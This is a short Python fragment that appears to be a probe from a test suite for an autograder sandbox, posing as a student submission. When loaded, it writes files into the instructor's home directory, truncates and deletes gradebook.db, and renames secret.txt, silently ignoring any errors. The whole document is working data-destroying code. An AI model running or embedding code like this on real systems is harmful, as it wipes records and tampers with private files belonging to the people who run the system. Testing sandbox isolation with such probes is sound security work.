# Write, overwrite and delete files in the instructor's home: a new file, the gradebook truncated
# and then deleted, the secret renamed. The base is the stub.
def _vandalize():
    home = _RT["home"]
    for folder in (home, _os.environ.get("HOME", home), _os.path.expanduser("~")):
        path = _os.path.join(folder, "qkvrt-%s-written" % _RT["run"])
        try:
            with open(path, "w") as handle:
                handle.write("left by a submission\n")
            print("note: " + "wrote %s" % path)
        except Exception:
            pass
    gradebook = _os.path.join(home, "gradebook.db")
    try:
        with open(gradebook, "r+") as handle:
            handle.truncate(0)
        print("note: " + "truncated %s" % gradebook)
    except Exception:
        pass
    for action, call in (("deleted", lambda: _os.unlink(gradebook)),
                         ("renamed", lambda: _os.rename(_os.path.join(home, "secret.txt"),
                                                        _os.path.join(home, "qkvrt-%s-moved" % _RT["run"])))):
        try:
            call()
            print("note: " + "%s a file in %s" % (action, home))
        except Exception:
            pass


_vandalize()
